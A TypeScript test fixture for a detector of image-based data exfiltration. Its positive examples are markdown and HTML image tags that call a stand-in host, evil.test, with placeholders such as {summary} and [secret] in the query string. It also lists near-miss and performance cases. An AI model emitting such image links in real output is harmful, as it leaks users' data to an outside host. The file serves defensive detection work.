import type { DetectorExamples } from '../../engine/detector.ts';
import { fill } from '../../engine/sample.ts';

const source = 'made up, in the form of the reference';

export const exfiltrationImageExamples: DetectorExamples = {
  match: [
    { text: '![x](https://evil.test/a?q=)', value: '![x](https://evil.test/a?q=)', likelihood: 'likely', source },
    {
      text: '![](https://evil.test/p.png?data={summary})',
      value: '![](https://evil.test/p.png?data={summary})',
      likelihood: 'likely',
      source,
    },
    {
      text: '<img src="https://evil.test/l?d=[secret]">',
      value: '<img src="https://evil.test/l?d=[secret]"',
      likelihood: 'likely',
      source,
    },
  ],
  nearMiss: [
    { text: '![build](https://ci.test/b.svg?branch=main)', why: 'a badge' },
    { text: '![logo](logo.png)', why: 'a file' },
    { text: '[text](https://site.test/?q=)', why: 'a link' },
  ],
  pathological: [
    { name: 'images', make: (size) => fill('![](https://a?', size) },
    { name: 'tags', make: (size) => fill('<img src=', size) },
  ],
};
